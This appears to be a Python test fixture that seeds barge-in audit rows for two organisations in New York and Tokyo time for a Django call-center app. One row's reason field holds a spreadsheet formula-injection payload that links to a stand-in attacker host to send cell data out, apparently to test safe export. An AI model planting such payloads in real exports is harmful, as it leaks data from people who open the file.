"""An audit to read, seeded through the ORM on top of the demo world: rows of Acme (kept in New
York time) and of Globex (kept in Tokyo time), with queues, agents, outcomes and times chosen
so that each filter selects a different set."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

from django.contrib.auth.models import User

from calls.models import BargeInAttempt, Extension, Organization, QueueCall

# 10:00 in New York, 00:00 the next day in Tokyo.
NOW = datetime(2025, 3, 4, 15, 0, tzinfo=UTC)


def add_attempt(
    organization: Organization | None, username: str, call_id: str, at: datetime, **fields: Any
) -> BargeInAttempt:
    """An audit row as ``barge_in`` leaves it, written ``at`` (``at`` is set on creation
    otherwise)."""
    row = BargeInAttempt.objects.create(
        organization=organization,
        user=User.objects.filter(username=username).first(),
        username=username,
        phone_call_id=call_id,
        **fields,
    )
    BargeInAttempt.objects.filter(pk=row.pk).update(at=at)
    row.refresh_from_db()
    return row


def queue_call(queue: str, call_id: str, arrived: datetime) -> QueueCall:
    extension = Extension.objects.get(number=queue)
    return QueueCall.objects.create(
        organization=extension.organization,
        queue=extension,
        phone_call_id=call_id,
        arrived=arrived,
        outcome=QueueCall.Outcome.ANSWERED,
    )


def seed_audit() -> dict[str, BargeInAttempt]:
    """The rows by name:

    ==========  =======  ======  ==============  ========  =======  ========  =================
    name        org      who     call (queue)    agent     mode     outcome   local day
    ==========  =======  ======  ==============  ========  =======  ========  =================
    sales       Acme     alice   0001*100        0001*201  barge    accepted  Mar 4, 65 s on
    support     Acme     alice   0001*101        0001*202  listen   rejected  Mar 4
    direct      Acme     dana    none            0001*203  whisper  refused   Mar 3 (23:30)
    joined      Acme     alice   0001*100        0001*201  listen   accepted  Mar 4, still on
    billing     Globex   bob     0002*100        0002*201  barge    accepted  Mar 4 (22:55)
    late        Globex   bob     none            0002*202  listen   accepted  Mar 5 (01:00)
    ==========  =======  ======  ==============  ========  =======  ========  =================

    dana's account is gone: her rows keep her name.
    """
    acme = Organization.objects.get(name="Acme")
    acme.time_zone = "America/New_York"
    acme.save()
    globex = Organization.objects.get(name="Globex")
    globex.time_zone = "Asia/Tokyo"
    globex.save()
    queue_call("0001*100", "acme-sales-1", NOW - timedelta(hours=1, minutes=2))
    queue_call("0001*101", "acme-support-1", NOW - timedelta(hours=2, minutes=1))
    queue_call("0001*100", "acme-sales-2", NOW - timedelta(minutes=12))
    queue_call("0002*100", "globex-billing-1", NOW - timedelta(hours=1, minutes=3))
    joined = NOW - timedelta(hours=1) + timedelta(seconds=3)
    return {
        "sales": add_attempt(
            acme,
            "alice",
            "acme-sales-1",
            NOW - timedelta(hours=1),
            target_extension="0001*201",
            send_call_to="0001*024",
            address="10.0.0.7",
            mode="barge",
            outcome="accepted",
            reason="Escalation requested",
            caller_id="Alice <100>",
            joined_at=joined,
            left_at=joined + timedelta(seconds=65),
            left_how="left",
        ),
        "support": add_attempt(
            acme,
            "alice",
            "acme-support-1",
            NOW - timedelta(hours=2),
            target_extension="0001*202",
            send_call_to="0001*025",
            address="2001:db8::7",
            mode="listen",
            outcome="rejected",
            uapi_code="pc_phonecall_invalid",
            message="The call ended before your phone could join.",
        ),
        "direct": add_attempt(
            acme,
            "dana",
            "acme-direct",
            datetime(2025, 3, 4, 4, 30, tzinfo=UTC),
            target_extension="0001*203",
            send_call_to="0001*024",
            mode="whisper",
            outcome="refused",
            message="You have no right to whisper.",
            reason='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        "joined": add_attempt(
            acme,
            "alice",
            "acme-sales-2",
            NOW - timedelta(minutes=10),
            target_extension="0001*201",
            send_call_to="0001*024",
            mode="listen",
            outcome="accepted",
            joined_at=NOW - timedelta(minutes=9),
        ),
        "billing": add_attempt(
            globex,
            "bob",
            "globex-billing-1",
            NOW - timedelta(hours=1, minutes=5),
            target_extension="0002*201",
            send_call_to="0002*024",
            mode="barge",
            outcome="accepted",
            reason="Bob's secret reason",
        ),
        "late": add_attempt(
            globex,
            "bob",
            "globex-direct",
            NOW + timedelta(hours=1),
            target_extension="0002*202",
            send_call_to="0002*024",
            mode="listen",
            outcome="accepted",
        ),
    }


# Newest first, as the audit lists them.
EVERY_ROW = ["late", "joined", "sales", "billing", "support", "direct"]
ACME_ROWS = ["joined", "sales", "support", "direct"]
GLOBEX_ROWS = ["late", "billing"]
